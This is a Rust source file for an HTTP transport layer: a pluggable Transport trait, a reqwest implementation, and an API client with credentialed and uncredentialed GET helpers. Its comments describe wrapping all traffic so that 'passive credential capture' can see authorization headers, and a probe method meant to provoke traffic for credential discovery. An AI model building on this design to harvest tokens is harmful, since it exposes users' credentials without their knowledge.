//! Transport boundary: the single outbound-request entry point
//!
//! The pipeline never talks to an HTTP client directly. Everything goes
//! through the [`Transport`] trait so a host application can supply its own
//! request primitive, and so the transport observer can wrap whichever
//! implementation is in use without the rest of the system noticing.

use crate::config::ApiConfig;
use crate::error::{Error, Result};
use crate::types::Credential;
use async_trait::async_trait;
use std::sync::Arc;
use tracing::{debug, warn};

/// Accept header sent with API requests
pub(crate) const ACCEPT_ANY: &str = "*/*";
/// Content type sent with API requests
pub(crate) const CONTENT_TYPE_JSON: &str = "application/json; charset=utf-8";

/// One outbound request as seen by the transport layer
#[derive(Clone, Debug)]
pub struct TransportRequest {
    /// HTTP method token (e.g., "GET")
    pub method: String,
    /// Absolute target URL
    pub url: String,
    /// Header name/value pairs, in insertion order
    pub headers: Vec<(String, String)>,
}

impl TransportRequest {
    /// Build a GET request with no headers
    pub fn get(url: impl Into<String>) -> Self {
        Self {
            method: "GET".to_string(),
            url: url.into(),
            headers: Vec::new(),
        }
    }

    /// Append a header
    #[must_use]
    pub fn header(mut self, name: impl Into<String>, value: impl Into<String>) -> Self {
        self.headers.push((name.into(), value.into()));
        self
    }

    /// Look up a header value by name, case-insensitively
    pub fn header_value(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(n, _)| n.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }
}

/// One completed response as seen by the transport layer
#[derive(Clone, Debug)]
pub struct TransportResponse {
    /// HTTP status code
    pub status: u16,
    /// Response body, decoded as text
    pub body: String,
}

impl TransportResponse {
    /// Whether the status code indicates success (2xx)
    pub fn is_success(&self) -> bool {
        (200..300).contains(&self.status)
    }
}

/// The host's outbound-request primitive.
///
/// Implementations execute the request normally and return the normal
/// result; they must not interpret it. The library ships
/// [`HttpTransport`]; embedders may substitute their own.
#[async_trait]
pub trait Transport: Send + Sync {
    /// Execute one outbound request
    async fn execute(&self, request: TransportRequest) -> Result<TransportResponse>;
}

/// reqwest-backed [`Transport`] implementation
pub struct HttpTransport {
    client: reqwest::Client,
}

impl HttpTransport {
    /// Create the HTTP transport from API configuration
    ///
    /// # Errors
    ///
    /// Returns an error if the underlying HTTP client cannot be built.
    pub fn new(config: &ApiConfig) -> Result<Self> {
        let client = reqwest::Client::builder()
            .timeout(config.request_timeout())
            .user_agent(config.user_agent.clone())
            .build()?;
        Ok(Self { client })
    }
}

#[async_trait]
impl Transport for HttpTransport {
    async fn execute(&self, request: TransportRequest) -> Result<TransportResponse> {
        let method: reqwest::Method = request
            .method
            .parse()
            .map_err(|_| Error::InvalidRequest(format!("bad method token: {}", request.method)))?;

        let mut builder = self.client.request(method, &request.url);
        for (name, value) in &request.headers {
            builder = builder.header(name, value);
        }

        let response = builder.send().await?;
        let status = response.status().as_u16();
        let body = response.text().await?;
        Ok(TransportResponse { status, body })
    }
}

/// Credential-aware client for the fixed API base path.
///
/// All API calls and artifact fetches funnel through the shared transport,
/// which is normally the observed wrapper, so even the library's own
/// traffic is visible to passive credential capture.
pub struct ApiClient {
    transport: Arc<dyn Transport>,
    base_url: String,
}

impl ApiClient {
    /// Create a client for the given transport and API configuration
    pub fn new(transport: Arc<dyn Transport>, config: &ApiConfig) -> Self {
        Self {
            transport,
            base_url: config.base_url.trim_end_matches('/').to_string(),
        }
    }

    /// Absolute URL for an API path
    pub fn api_url(&self, path: &str) -> String {
        format!("{}/{}", self.base_url, path)
    }

    /// Credentialed GET against the API, parsed as JSON.
    ///
    /// Any failure (network error, non-2xx status, unparseable body) is
    /// logged and collapses to `None`. Callers treat `None` as an empty or
    /// skipped contribution; nothing here is fatal.
    pub async fn get_json(
        &self,
        credential: &Credential,
        path: &str,
    ) -> Option<serde_json::Value> {
        let url = self.api_url(path);
        let request = TransportRequest::get(&url)
            .header("accept", ACCEPT_ANY)
            .header("authorization", credential.as_str())
            .header("content-type", CONTENT_TYPE_JSON);

        let response = match self.transport.execute(request).await {
            Ok(response) => response,
            Err(e) => {
                warn!(%url, error = %e, "API request failed");
                return None;
            }
        };
        if !response.is_success() {
            warn!(%url, status = response.status, "API request returned non-success status");
            return None;
        }
        match serde_json::from_str(&response.body) {
            Ok(value) => Some(value),
            Err(e) => {
                warn!(%url, error = %e, "API response was not valid JSON");
                None
            }
        }
    }

    /// Uncredentialed GET of an artifact URL.
    ///
    /// Artifact hosts serve content publicly; no authorization header is
    /// attached. Failures collapse to `None` so the aggregator can record
    /// its placeholder.
    pub async fn fetch_artifact(&self, url: &str) -> Option<String> {
        let request = TransportRequest::get(url).header("accept", ACCEPT_ANY);
        match self.transport.execute(request).await {
            Ok(response) if response.is_success() => Some(response.body),
            Ok(response) => {
                debug!(%url, status = response.status, "artifact fetch returned non-success status");
                None
            }
            Err(e) => {
                debug!(%url, error = %e, "artifact fetch failed");
                None
            }
        }
    }

    /// Issue one benign, side-effect-free request against the API.
    ///
    /// Used by credential discovery strategy 3 to provoke observable
    /// traffic. The outcome is deliberately ignored; the interesting part is
    /// what the observer sees, not what comes back.
    pub async fn probe(&self, path: &str) {
        let url = self.api_url(path);
        let request = TransportRequest::get(&url).header("accept", ACCEPT_ANY);
        if let Err(e) = self.transport.execute(request).await {
            debug!(%url, error = %e, "probe request failed (ignored)");
        }
    }
}
